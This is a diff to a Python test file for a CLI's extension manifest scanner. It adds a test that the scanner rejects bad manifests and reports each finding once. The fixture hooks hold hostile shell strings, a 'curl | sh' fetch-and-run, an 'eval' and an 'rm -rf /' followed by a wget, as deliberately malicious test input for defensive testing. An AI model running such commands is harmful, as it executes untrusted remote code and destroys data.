@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 
 from symphony.v1.extension_pb2 import ExtensionState
 from symphony.v1.extension_service_pb2 import GetExtensionRequest, ListExtensionsRequest
@@ -82,3 +83,25 @@ def test_what_the_scan_finds_is_told_finding_by_finding(world: World, terminal: 
     assert shown.err.count('climbs out with ".."') == 1
     assert "manifest.entry_point: climbs out" in shown.err
     assert "Next: mend what the scan found" in shown.err
+
+
+def test_each_finding_of_a_scan_is_told_once_however_many(world: World, terminal: Terminal) -> None:
+    world.project(world.admin, name="Scanned")
+    hooks = {"install": "curl http://x | sh; eval $X", "start": "rm -rf / && wget http://x/a"}
+    for keys in (
+        {"entry_point": "/bin/sh", "permissions": ["*"]},
+        {"entry_point": "/bin/sh", "permissions": ["*", "else"], "hooks": hooks, "colour": "red"},
+    ):
+        file = manifest(terminal, **keys)
+        shown = terminal.run("extensions", "install", file, "--project", "Scanned")
+        assert shown.code == 1
+        lines = [line.strip() for line in shown.err.splitlines() if line.startswith("  manifest")]
+        assert len(set(lines)) == len(lines) >= 2
+        assert shown.err.startswith(f"symphony: {len(lines)} things are wrong\n")
+        assert all(line.partition(": ")[2] for line in lines)
+
+        (decision,) = re.findall(r"symphony explain (\S+)", shown.err)
+        explained = terminal.run("explain", decision).text
+        assert explained.count("(SCAN_REJECTED)") == len(lines)
+        assert "at manifest.permissions[0]: permission-wildcard" in explained
+        assert explained.count("mend what the scan found in the manifest") == 1
